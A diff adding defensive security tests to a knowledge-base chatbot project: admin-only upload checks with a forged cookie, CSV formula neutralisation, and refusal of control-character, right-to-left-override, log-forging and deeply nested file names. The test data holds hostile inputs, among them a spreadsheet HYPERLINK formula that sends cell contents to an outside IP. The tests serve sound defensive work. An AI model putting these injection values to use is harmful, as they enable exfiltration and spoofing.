@@ -38,3 +38,74 @@ def test_x_forwarded_for_from_a_configured_proxy_names_the_client(settings, serv
     settings.limits.trusted_proxies = ["127.0.0.1"]
     base = serve_app()
     assert login_failures(base, spoof=True) == [401] * 8  # eight clients, one failure each
+
+
+def test_only_admins_upload(serve_app):  # noqa: F811
+    from tests.test_guard import ADMIN
+
+    base = serve_app()
+    files = {"files": ("faq.json", b'{"a": {"query": "q", "document": "d"}}')}
+    anonymous = httpx.post(base + "/gradio_api/upload", files=files, timeout=30)
+    assert anonymous.status_code == 403 and "Only a logged-in admin" in anonymous.text  # main: 200, file stored
+    forged = httpx.post(base + "/gradio_api/upload", files=files, headers={"Cookie": "kbbot_admin=1.abc"}, timeout=30)
+    assert forged.status_code == 403
+    stored = httpx.post(base + "/gradio_api/upload", files=files, headers=ADMIN, timeout=30)
+    assert stored.status_code == 200 and stored.json()[0].endswith("faq.json")
+
+
+FORMULAS = ['=HYPERLINK("http://198.51.100.7/?x="&A1,"点我")', "=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_neutralises_formulas_and_the_import_restores_them(tmp_path):
+    import csv
+    import io
+
+    from bot.knowledge.csv_io import export_csv, import_csv
+    from bot.knowledge.entries import load_entries
+    from bot.knowledge.store import KnowledgeStore
+    from tests.conftest import write_knowledge
+
+    src = tmp_path / "src"
+    data = {f"f{n}": {"query": f"问题{n} {f}", "document": f, "metadata": f} for n, f in enumerate(FORMULAS)}
+    write_knowledge(src, data, "inbox.json")
+    text = export_csv(load_entries(src), src)
+    cells = [cell for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []  # main: 14 formula cells
+    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text
+    dst = tmp_path / "dst"
+    dst.mkdir()
+    import_csv(KnowledgeStore(dst, tmp_path / "state" / "locks"), text, "inbox.json")
+    back = {e.id: e for e in load_entries(dst)}
+    assert [back[f"inbox:f{n}"].document for n in range(len(FORMULAS))] == [
+        e.document for e in sorted(load_entries(src), key=lambda e: int(e.id.split(":f")[1]))
+    ]
+
+
+BAD_NAMES = ["evil\n2026-11-25 INFO admin logged in.json", "invoice\u202enosj.json", "/".join(["d"] * 60) + "/x.json"]
+
+
+def test_saves_refuse_control_characters_rtl_overrides_and_deep_folders(settings, serve_app, kb_dir):  # noqa: F811
+    from tests.test_guard import call
+
+    base = serve_app()
+    before = sorted(p.relative_to(kb_dir) for p in kb_dir.rglob("*"))
+    for name in BAD_NAMES:
+        status = call(base, "save_entry", name, "", "停车场怎么收费？", "五元。", "停车", None)[0]
+        assert "❌" in status and ("control" in status or "folders deep" in status), status
+    status = call(base, "save_entry", "faq.json", "k\nforged", "停车场怎么收费？", "五元。", "停车", None)[0]
+    assert "❌" in status and "control" in status
+    assert sorted(p.relative_to(kb_dir) for p in kb_dir.rglob("*")) == before  # main: 3 files, 60 folders
+
+
+def test_imports_refuse_unsafe_names_and_keys(tmp_path):
+    from bot.errors import BotError
+    from bot.knowledge.store import KnowledgeStore
+
+    store = KnowledgeStore(tmp_path / "kb", tmp_path / "locks")
+    (tmp_path / "kb").mkdir()
+    with pytest.raises(BotError, match="control or invisible"):
+        store.import_file("invoice\u202enosj.json", '{"a": {"query": "q", "document": "d"}}')
+    with pytest.raises(BotError, match="control or invisible"):
+        store.import_file("ok.json", '{"a\\nINFO forged": {"query": "q", "document": "d"}}')
+    assert list((tmp_path / "kb").iterdir()) == []
+    assert store.import_file("ok.json", '{"a": {"query": "q", "document": "d"}}') == ["ok:a"]
